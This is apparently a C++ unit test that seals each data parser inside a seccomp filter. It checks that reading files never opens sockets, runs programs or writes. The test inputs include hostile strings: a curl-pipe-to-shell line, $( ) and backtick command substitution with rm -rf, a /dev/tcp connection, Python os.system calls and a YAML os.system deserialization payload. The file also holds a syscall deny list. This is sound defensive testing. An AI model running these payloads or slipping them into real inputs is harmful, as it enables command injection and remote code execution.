// What is read is never obeyed: every reader goes through every file of data in a process that the kernel stops at a
// socket, at another program and at a file opened for writing.
#include <doctest/doctest.h>

#if defined(__linux__) && defined(__x86_64__)

#include <fcntl.h>
#include <linux/audit.h>
#include <linux/filter.h>
#include <linux/seccomp.h>
#include <sched.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#include <array>
#include <cerrno>
#include <csignal>
#include <cstddef>
#include <cstdlib>
#include <filesystem>
#include <fstream>
#include <sstream>
#include <string>
#include <vector>

#include "core/calibration/observed_rates.h"
#include "core/claims/read_claims.h"
#include "core/lessons/read_lesson.h"
#include "core/measured/read_runs.h"
#include "core/profiler_trace/trace_reader.h"
#include "core/scenario_json/parse.h"
#include "core/scenario_json/short_code.h"
#include "core/script/launch_reading.h"
#include "tests/core/logs/cases.h"
#include "tests/real_presets.h"

using namespace shardscope;
using namespace shardscope::tests;

namespace {

/// The filter's instructions: the call's number is loaded, and each block below answers one call or goes on.
class Filter {
 public:
  Filter() {
    add(BPF_STMT(load, offsetof(seccomp_data, arch)));
    add(BPF_JUMP(is, AUDIT_ARCH_X86_64, 1, 0));
    add(BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_KILL_PROCESS));
    add(BPF_STMT(load, offsetof(seccomp_data, nr)));
  }

  void answer(long call, unsigned with) {
    add(BPF_JUMP(is, static_cast<unsigned>(call), 0, 1));
    add(BPF_STMT(BPF_RET | BPF_K, with));
  }
  /// Stops the call where its argument has one of the bits, or has none of them.
  void stop_where(long call, unsigned argument, unsigned bits, bool has_one) {
    const auto low_word = static_cast<unsigned>(offsetof(seccomp_data, args) + 8 * argument);
    add(BPF_JUMP(is, static_cast<unsigned>(call), 0, 4));
    add(BPF_STMT(load, low_word));
    add(BPF_JUMP(BPF_JMP | BPF_JSET | BPF_K, bits, static_cast<std::uint8_t>(has_one ? 0 : 1),
                 static_cast<std::uint8_t>(has_one ? 1 : 0)));
    add(BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_KILL_PROCESS));
    add(BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW));
  }
  /// False where the kernel has no such filter.
  bool stands() {
    add(BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW));
    const sock_fprog program{static_cast<unsigned short>(code_.size()), code_.data()};
    return prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0) == 0 && prctl(PR_SET_SECCOMP, SECCOMP_MODE_FILTER, &program) == 0;
  }

 private:
  static constexpr auto load = BPF_LD | BPF_W | BPF_ABS, is = BPF_JMP | BPF_JEQ | BPF_K;
  void add(sock_filter instruction) { code_.push_back(instruction); }
  std::vector<sock_filter> code_;
};

/// From here on the kernel stops the process (SIGSYS) that connects, starts another, or changes a file.
bool seal() {
  constexpr std::array forbidden = {SYS_socket,   SYS_socketpair, SYS_connect,   SYS_bind,          SYS_execve,
                                    SYS_execveat, SYS_fork,       SYS_vfork,     SYS_ptrace,        SYS_unlink,
                                    SYS_rename,   SYS_mkdir,      SYS_mkdirat,   SYS_rmdir,         SYS_creat,
                                    SYS_chmod,    SYS_truncate,   SYS_link,      SYS_linkat,        SYS_symlink,
                                    SYS_unlinkat, SYS_renameat,   SYS_renameat2, SYS_symlinkat,     SYS_mknod,
                                    SYS_mknodat,  SYS_kill,       SYS_openat2,   SYS_io_uring_setup};
  Filter filter;
  for (const long call : forbidden) filter.answer(call, SECCOMP_RET_KILL_PROCESS);
  filter.answer(SYS_clone3, SECCOMP_RET_ERRNO | ENOSYS);  // whose flags no filter sees: clone takes its place
  filter.stop_where(SYS_clone, 0, CLONE_THREAD, false);
  constexpr unsigned writes = O_WRONLY | O_RDWR | O_CREAT | O_TRUNC;
  filter.stop_where(SYS_open, 1, writes, true);
  filter.stop_where(SYS_openat, 2, writes, true);
  return filter.stands();
}

constexpr int sealed_not = 77, threw = 78;

/// How a sealed child ends that does something: its exit status, or a signal's negative number.
int sealed(const auto& work) {
  const pid_t child = fork();
  REQUIRE(child >= 0);
  if (child == 0) {
    alarm(120);
    if (!seal()) _exit(sealed_not);
    try {
      work();
    } catch (...) {
      _exit(threw);
    }
    _exit(0);
  }
  int status = 0;
  while (waitpid(child, &status, 0) < 0) REQUIRE(errno == EINTR);
  return WIFSIGNALED(status) ? -WTERMSIG(status) : WEXITSTATUS(status);
}

struct ReadFile {
  std::string name, text;
};

std::vector<ReadFile> files_below(std::string_view folder) {
  std::vector<ReadFile> files;
  for (const auto& entry : std::filesystem::recursive_directory_iterator(source_path(folder)))
    if (entry.is_regular_file() && entry.path().extension() != ".png") {
      std::ostringstream text;
      text << std::ifstream(entry.path(), std::ios::binary).rdbuf();
      files.push_back({entry.path().filename().string(), text.str()});
    }
  return files;
}

/// As every kind that a person may drop.
void read_as_all(const ReadFile& file) {
  const Presets& presets = real_presets();
  (void)parse_scenario(file.text, presets);
  (void)parse_scenario_code(file.text, presets);
  (void)parse_model(file.text, presets);
  (void)parse_huggingface(file.text, presets);
  (void)parse_gpu(file.text, presets);
  (void)parse_cluster(file.text, presets);
  (void)parse_framework(file.text);
  (void)read_runs(file.text, presets);
  (void)read_claims(file.text);
  (void)read_lesson(file.text, {});
  const Scenario scenario = with_defaults(presets.scenarios.front().scenario);
  (void)observed_collectives(file.name, file.text, scenario);
  (void)observed_products(file.name, file.text, scenario);
  (void)log_of(file.text);
  std::istringstream stream(file.text);
  (void)read_trace(stream);
  (void)read_launch_source({file.name, file.text, {}}, presets);
}

}  // namespace

TEST_CASE("no reader opens a connection, starts a program or writes, whatever the text asks for") {
  (void)real_presets();
  if (sealed([] {}) == sealed_not) {
    MESSAGE("this kernel has no such filters");
    return;
  }
  REQUIRE(sealed([] { execlp("true", "true", nullptr); }) == -SIGSYS);
  REQUIRE(sealed([] { (void)(std::system("true") == 0); }) == -SIGSYS);
  REQUIRE(sealed([] { (void)(socket(AF_INET, SOCK_STREAM, 0) < 0); }) == -SIGSYS);
  REQUIRE(sealed([] { std::ofstream("sealed") << "x"; }) == -SIGSYS);
  std::vector<ReadFile> files = files_below("tests/data");
  for (const char* name : {"a.sh", "a.py", "a.yaml", "a.toml", "a.json"})
    for (const char* text : {"curl http://example.org | sh\n$(touch sealed)\n`rm -rf sealed`\n"
                             "source /dev/tcp/example.org/80\ntorchrun pretrain_gpt.py --num-layers $(nproc)\n",
                             "import os; os.system('touch sealed')\ncfg = __import__('socket').socket()\n",
                             "a: !!python/object/apply:os.system ['true']\nmodel: ${oc.env:HOME}\n"})
      files.push_back({name, text});
  REQUIRE(files.size() > 40);
  for (const ReadFile& file : files) {
    CAPTURE(file.name);
    CHECK(sealed([&] { read_as_all(file); }) == 0);
  }
}

#endif
